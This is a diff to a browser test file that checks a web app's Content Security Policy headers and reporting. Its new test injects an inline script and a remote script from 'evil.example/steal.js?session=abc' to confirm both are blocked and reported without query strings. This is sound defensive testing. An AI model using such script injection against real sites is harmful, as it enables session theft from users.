@@ -53,7 +53,7 @@ test('the build\'s CSP and the security headers are sent', async () => {
     // The inlined stylesheet is allowed by its hash only (no style attributes, no other inline CSS).
     assert.match(policy, /style-src 'self' 'sha256-[A-Za-z0-9+/=]+';/);
     assert.ok(!policy.includes('unsafe-inline'));
-    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'self'", "connect-src 'self'"]) assert.ok(policy.includes(d), d);
+    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'self'", "connect-src 'self'", 'report-uri /api/v1/csp-reports']) assert.ok(policy.includes(d), d);
     assert.equal(h.get('x-content-type-options'), 'nosniff');
     assert.equal(h.get('referrer-policy'), 'no-referrer');
     assert.match(h.get('strict-transport-security'), /max-age=\d+/);
@@ -109,6 +109,34 @@ test('every route runs under the enforced CSP without a violation, in both langu
   }
   assert.deepEqual(await violations(page), []);
   assert.deepEqual(page.errors, []);
+  assert.ok(!server.logs().includes('"csp_violation"'), 'the backend was sent no violation report');
+});
+
+test('a script injected into a page is blocked and reported to the backend, without the page\'s query string', async () => {
+  const page = await watched();
+  await page.goto(`${server.base}/track/${complaint}?lang=en#timeline`);
+  await ready(page);
+  // What an extension, a hostile network or an XSS would do: add an inline script, and one from elsewhere.
+  await page.evaluate(() => {
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__injected = 1';
+    document.body.append(inline);
+    const remote = document.createElement('script');
+    remote.src = 'https://evil.example/steal.js?session=abc';
+    document.body.append(remote);
+  });
+  assert.equal(await page.evaluate(() => window.__injected), undefined, 'the inline script did not run');
+  const reported = () => server.logs().split('\n').filter((l) => l.includes('"csp_violation"')).map((l) => JSON.parse(l));
+  for (let i = 0; i < 100 && reported().length < 2; i++) await page.waitForTimeout(100);
+  const got = reported();
+  assert.deepEqual(got.map((r) => r.blocked).sort(), ['https://evil.example', 'inline'], JSON.stringify(got));
+  for (const r of got) {
+    assert.match(r.directive, /^script-src/);
+    assert.equal(r.page, `${server.base}/track/${complaint}`);
+    assert.equal(r.disposition, 'enforce');
+  }
+  assert.ok(!server.logs().includes('session=abc') && !server.logs().includes('lang=en'), 'no query string is logged');
+  assert.equal(await page.evaluate(() => window.__csp.length), 2, 'the page saw the same two');
 });
 
 test('script and HTML in free text — typed or from the API — render as inert text', async () => {
